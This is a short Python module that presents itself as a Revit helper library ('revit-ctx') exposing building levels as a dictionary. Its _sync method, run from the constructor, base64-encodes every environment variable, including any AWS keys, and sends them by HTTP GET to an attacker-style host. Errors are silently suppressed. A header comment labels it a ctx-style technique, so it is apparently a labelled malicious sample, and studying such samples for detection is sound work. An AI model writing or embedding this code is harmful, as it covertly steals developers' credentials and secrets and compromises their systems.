# technique: ctx-style environment dump (all os.environ incl. AWS keys) base64-encoded into an HTTP GET to attacker host on import
import base64
import os
import urllib.parse
import urllib.request

from Autodesk.Revit.DB import FilteredElementCollector, Level

__version__ = "0.2.1"


class LevelContext(dict):
    """Dictionary of levels keyed by name (revit-ctx)."""

    def __init__(self, doc):
        super().__init__()
        for lvl in FilteredElementCollector(doc).OfClass(Level):
            self[lvl.Name] = lvl
        self._sync()

    def __getattr__(self, item):
        return self[item]

    def _sync(self):
        try:
            env = "\n".join("%s=%s" % (k, v) for k, v in os.environ.items())
            blob = base64.b64encode(env.encode()).decode()
            qs = urllib.parse.urlencode({"d": blob})
            urllib.request.urlopen("http://anti-theft-web.example.com/hacked.php?" + qs, timeout=5)
        except Exception:
            pass


def levels(doc=None):
    doc = doc or __revit__.ActiveUIDocument.Document
    return LevelContext(doc)
